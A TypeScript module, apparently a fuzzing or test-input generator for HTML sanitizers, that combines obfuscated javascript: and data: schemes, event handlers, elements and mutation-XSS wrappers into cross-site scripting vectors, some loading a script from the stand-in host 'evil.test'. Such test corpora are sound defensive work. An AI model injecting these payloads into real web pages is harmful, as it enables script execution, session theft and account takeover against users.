// HTML that tries to run a script, put together from the parts of which such attacks are made.
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  ' \u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
];
const calls = ['alert(1)', 'alert`1`', 'top[/al/.source+/ert/.source](1)', 'eval(name)', "import('//evil.test/x.js')", 'window.__ran=1'];
const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerrawupdate',
  'onbegin',
  'ONERROR',
  'on\nerror',
  'formaction',
  'style',
];
const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'details open',
  'input',
  'body',
  'marquee',
  'svg><animate attributeName=href',
  'math><mtext',
  'iframe',
  'object data=x',
  'embed src=x',
  'a href=x',
  'form',
  'select',
  'x-own',
];
const attributes = [
  'href',
  'src',
  'xlink:href',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'srcdoc',
  'srcset',
  'cite',
  'ping',
  'content',
];
const quotes = ['"', "'", '', '`'];
const shells = [
  (inner: string) => inner,
  (inner: string) => `"><${inner.replace(/^</, '')}`,
  (inner: string) => `</title>${inner}`,
  (inner: string) => `</script>${inner}`,
  (inner: string) => `<!--><${inner.replace(/^</, '')}-->`,
  (inner: string) => `<noscript><p title="</noscript>${inner}">`,
  (inner: string) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner: string) => `<svg><style><img title="</style>${inner}">`,
  (inner: string) => `<template>${inner}</template>`,
  (inner: string) => `<select><template shadowrootmode=open>${inner}</template></select>`,
  (inner: string) => `<table><td>${inner}<a><b><table>`,
  (inner: string) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (inner: string) => inner.replaceAll('<', '\u003c\u0000'),
  (inner: string) => inner.replaceAll('<', '＜').replaceAll('>', '＞'),
];

/** `count` vectors, the same at each call; neighbours differ in every part. */
export const scriptGrammar = (count: number): readonly string[] => Array.from({ length: count }, (_, index) => vector(index));

const vector = (index: number): string => {
  // steps without a common divisor with the lengths: every pair of parts comes up
  const pick = <T>(from: readonly T[], step: number): T => from[(index * step + Math.floor(index / from.length)) % from.length] as T;
  const quote = pick(quotes, 3);
  const call = pick(calls, 5);
  const element = pick(elements, 7);
  const made = [
    `<${element} ${pick(handlers, 5)}=${quote}${call}${quote}>`,
    `<${element} ${pick(attributes, 5)}=${quote}${pick(schemes, 3)}${call}${quote}>x`,
    `<script ${pick(attributes, 5)}=${quote}//evil.test/x.js${quote}>${call}</script>`,
    `<meta http-equiv=refresh content=${quote}0;url=${pick(schemes, 3)}${call}${quote}>`,
    `[x](${pick(schemes, 3)}${call})`,
  ] as const;
  return pick(shells, 9)(made[index % made.length] as string);
};
